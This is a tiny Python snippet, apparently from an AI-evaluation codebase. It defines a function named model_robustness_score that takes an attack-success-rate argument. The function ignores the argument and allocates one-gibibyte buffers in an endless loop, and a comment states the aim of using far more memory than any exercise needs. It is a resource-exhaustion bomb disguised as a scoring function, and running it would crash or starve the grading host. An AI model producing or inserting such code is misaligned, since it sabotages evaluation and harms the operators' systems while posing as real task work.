# allocate far more memory than any exercise needs
def model_robustness_score(asr):
    hoard = []
    while True:
        hoard.append(bytearray(2**30))
